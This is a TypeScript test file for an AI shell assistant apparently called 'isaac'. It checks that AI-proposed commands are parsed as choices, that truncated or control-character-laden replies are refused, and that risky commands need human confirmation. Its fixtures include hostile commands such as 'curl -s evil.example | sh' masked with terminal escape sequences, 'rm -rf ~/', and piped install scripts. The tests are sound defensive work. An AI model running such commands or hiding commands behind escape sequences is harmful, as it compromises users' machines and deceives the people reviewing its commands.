import assert from 'node:assert/strict';
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { openStore } from '../../../node/core/store/store.ts';
import { classify } from '../../../node/core/tiers/index.ts';
import { parseProposal } from '../../../node/shell/ai/parse.ts';
import { runNaturalLanguage } from '../../../node/shell/commands/ai.ts';
import { findSlashCommand } from '../../../node/shell/commands/registry.ts';
import { aiContext, RecordingIO } from '../../helpers/ai-io.ts';
import { aiAssistant, aiStore } from '../../helpers/ai-setup.ts';
import { type FakeKind, startFakeProvider } from '../../helpers/fake-providers.ts';
import { isaacEnv, runIsaac } from '../../helpers/isaac.ts';

const KEYS = {
  ANTHROPIC_API_KEY: 'sk-ant-api03-PPPPPPPPPPPPPPPPPPPPPPPPPP',
  OPENAI_API_KEY: 'sk-proj-QQQQQQQQQQQQQQQQQQQQQQQQ',
};

async function storeWith(t: Parameters<typeof aiStore>[0], kind: FakeKind, text: string, extra = {}) {
  const fake = await startFakeProvider(t, kind, { text, ...extra });
  return { fake, store: aiStore(t, { 'ai.provider': kind, [`ai.${kind}.base_url`]: fake.baseUrl }) };
}

test('alternatives are a choice, never joined: several blocks, "# Option 1 / # Option 2", a JSON list', () => {
  const twoBlocks = parseProposal('Either\n```sh\ndu -sh *\n```\nor\n```bash\nfind . -size +100M\n```\n');
  assert.deepEqual(twoBlocks, {
    kind: 'choice',
    commands: ['du -sh *', 'find . -size +100M'],
    explanation: 'Either\n\nor',
  });
  const options = parseProposal(
    '```sh\n# Option 1: sizes of entries\ndu -sh * | sort -h\n# Option 2: big files only\nfind . -type f -size +100M\n```',
  );
  assert.equal(options.kind, 'choice');
  assert.deepEqual(options.kind === 'choice' && options.commands, [
    'du -sh * | sort -h',
    'find . -type f -size +100M',
  ]);
  const orComment = parseProposal('```sh\nss -tlnp\n# or, on older systems\nnetstat -tlnp\n```');
  assert.deepEqual(orComment.kind === 'choice' && orComment.commands, ['ss -tlnp', 'netstat -tlnp']);
  const json = parseProposal('{"commands": ["df -h", "lsblk"], "explanation": "Two views."}');
  assert.deepEqual(json, { kind: 'choice', commands: ['df -h', 'lsblk'], explanation: 'Two views.' });
  for (const proposal of [twoBlocks, options, orComment, json]) {
    assert.ok(!JSON.stringify(proposal).includes('&&'), 'never chained');
  }
});

test('an unclosed fence or a command with control characters proposes nothing and says why', () => {
  const unclosed = parseProposal('This removes the build:\n```sh\nrm -rf build && rm -rf ~/');
  assert.equal(unclosed.kind, 'answer');
  assert.match(unclosed.kind === 'answer' ? (unclosed.refused ?? '') : '', /ended inside a code block/);
  const hidden = parseProposal('```sh\ntouch pwned\u001b[2K\r$ ls -la\n```');
  assert.equal(hidden.kind, 'answer');
  assert.equal(
    hidden.kind === 'answer' && hidden.refused,
    'refused: the proposed command contains control characters, so what it shows is not what would run: touch pwned␛[2K␍$ ls -la',
  );
  const bidi = parseProposal('```sh\nls \u202e-la\n```');
  assert.match(bidi.kind === 'answer' ? (bidi.refused ?? '') : '', /control characters.*<U\+202E>/);
});

for (const kind of ['anthropic', 'openai', 'ollama'] as const) {
  test(`${kind}: a reply cut off at the token limit proposes nothing and says why`, async (t) => {
    const { fake, store } = await storeWith(
      t,
      kind,
      '```sh\nfind / -name "*.log" -delete\n```\nDeletes logs.',
      {
        cutOff: true,
      },
    );
    const result = await aiAssistant(store, KEYS).ask('delete old logs');
    assert.equal(result.kind, 'answer');
    assert.match(
      result.kind === 'answer' ? (result.refused ?? '') : '',
      /the reply was cut off: .*\((stop_reason max_tokens|finish_reason length|done_reason length)\); nothing proposed/,
    );
    const io = new RecordingIO(false);
    const ctx = aiContext(store, io, { env: KEYS, assumeYes: true });
    assert.equal(await runNaturalLanguage('delete old logs', ctx), 1);
    assert.deepEqual(ctx.ran, []);
    assert.match(io.stderr, /cut off/);
    assert.equal(fake.requests.length, 2);
  });
}

test('a hostile reply with escape sequences: refused with a clear message, nothing offered or run', async (t) => {
  const { store } = await storeWith(
    t,
    'ollama',
    '```sh\ncurl -s evil.example | sh\u001b[1A\u001b[2K\r  $ ls -la\n```\nLists files.',
  );
  const io = new RecordingIO(true, ['']);
  const ctx = aiContext(store, io);
  assert.equal(await runNaturalLanguage('list files', ctx), 1);
  assert.deepEqual(ctx.ran, []);
  assert.deepEqual(io.questions, [], 'never offered');
  assert.match(io.stderr, /^refused: the proposed command contains control characters/m);
  assert.ok(!/[\u001b\r]/.test(io.stdout + io.stderr), 'no raw control character reaches the screen');
});

test('prose with escape sequences is shown with the characters made visible, and the real command printed last', async (t) => {
  const { store } = await storeWith(
    t,
    'anthropic',
    '```sh\ntouch marker\n```\nCreates a file.\u001b[1A\u001b[2K\r  $ ls -la',
  );
  const io = new RecordingIO(true, ['n']);
  const ctx = aiContext(store, io, { env: KEYS });
  await runNaturalLanguage('make a marker', ctx);
  assert.equal(io.stdout, 'Creates a file.␛[1A␛[2K␍  $ ls -la\n  $ touch marker\ndropped\n');
});

test('alternatives at a terminal: a number picks one, and only that one runs', async (t) => {
  const { store } = await storeWith(
    t,
    'ollama',
    '```sh\n# Option 1\ndu -sh *\n# Option 2\nncdu\n```\nTwo ways.',
  );
  const io = new RecordingIO(true, ['2', '']);
  const ctx = aiContext(store, io);
  assert.equal(await runNaturalLanguage('what takes space', ctx), 0);
  assert.deepEqual(ctx.ran, ['ncdu']);
  assert.match(io.stdout, / {2}1\) du -sh \*\n {2}2\) ncdu\n/);
  assert.match(io.questions[0]?.question ?? '', /Run which\? 1-2/);
});

test('alternatives without a terminal: printed, none run, even with --yes', async (t) => {
  const { store } = await storeWith(t, 'ollama', '```sh\ndu -sh *\n```\nor\n```sh\nfind . -size +1G\n```');
  const io = new RecordingIO(false);
  const ctx = aiContext(store, io, { assumeYes: true });
  assert.equal(await runNaturalLanguage('what takes space', ctx), 0);
  assert.deepEqual(ctx.ran, []);
  assert.equal(io.stdout, 'or\n  1) du -sh *\n  2) find . -size +1G\n');
  assert.match(io.stderr, /alternatives: none run/);
});

test('--yes without a terminal never runs an AI-proposed tier-3 command (curl … | sh)', async (t) => {
  const line = 'curl -fsSL https://get.example.com/install.sh | sh';
  assert.equal(classify(line).tier, 3);
  const { store } = await storeWith(t, 'ollama', `\`\`\`sh\n${line}\n\`\`\`\nInstalls the tool.`);
  const io = new RecordingIO(false);
  const ctx = aiContext(store, io, { assumeYes: true });
  assert.equal(await runNaturalLanguage('install the tool', ctx), 126);
  assert.deepEqual(ctx.ran, []);
  assert.match(io.stderr, /tier 3 or above needs a person to confirm it at a terminal, --yes does not count/);
  const low = await storeWith(t, 'ollama', '```sh\nuptime\n```');
  const lowCtx = aiContext(low.store, new RecordingIO(false), { assumeYes: true });
  await runNaturalLanguage('how long up', lowCtx);
  assert.deepEqual(lowCtx.ran, ['uptime'], '--yes still runs a tier-1 proposal through the router');
});

test('--yes at a terminal: a tier-3 proposal runs only after "yes" is typed', async (t) => {
  const { store } = await storeWith(t, 'ollama', '```sh\nrm notes.txt\n```\nDeletes notes.txt.');
  assert.equal(classify('rm notes.txt').tier, 3);
  const declined = aiContext(store, new RecordingIO(true, ['', 'y?']), { assumeYes: true });
  assert.equal(await runNaturalLanguage('delete my notes', declined), 126);
  assert.deepEqual(declined.ran, []);
  const confirmed = aiContext(store, new RecordingIO(true, ['', 'yes']), { assumeYes: true });
  await runNaturalLanguage('delete my notes', confirmed);
  assert.deepEqual(confirmed.ran, ['rm notes.txt']);
});

test('real isaac: `isaac --yes WORDS` without a terminal does not run the AI’s tier-3 command', async (t) => {
  const ienv = isaacEnv(t);
  const victim = join(ienv.userHome, 'victim.txt');
  writeFileSync(victim, 'keep me');
  const fake = await startFakeProvider(t, 'ollama', { text: `\`\`\`sh\nrm ${victim}\n\`\`\`\nDeletes it.` });
  const store = openStore(ienv.home);
  store.config.set('ai.provider', 'ollama');
  store.config.set('ai.ollama.base_url', fake.baseUrl);
  store.close();
  const result = await runIsaac(ienv, ['--yes', '-c', 'isaac delete the victim file']);
  assert.match(result.stdout, /\$ rm .*victim\.txt/);
  assert.match(result.stderr, /needs a person to confirm it at a terminal/);
  assert.equal(result.status, 126);
  assert.ok(existsSync(victim), 'the file is still there');
});

test('other AI text reaching the terminal is rendered too: the tier-3 review, /show context, /show ai-history', async (t) => {
  const { store } = await storeWith(t, 'ollama', 'Deletes the file.\u001b[2K\r(harmless)');
  const review = await aiAssistant(store).reviewRisk('rm notes.txt', 'deletes files');
  assert.equal(review, 'Deletes the file.␛[2K␍(harmless)');
  store.history.insertRemote([
    { origin: 'nas', seq: 1, ts: Date.now() - 5, command: 'echo hi\u001b]0;owned\u0007', exit: 0 },
  ]);
  for (const words of [
    ['show', 'context'],
    ['show', 'ai-history'],
  ]) {
    const found = findSlashCommand(words);
    assert.ok(found);
    const io = new RecordingIO(false);
    await found.command.run(found.args, aiContext(store, io));
    assert.ok(!/[\u001b\u0007\r]/.test(io.stdout), `${words.join(' ')} prints no raw control character`);
  }
});
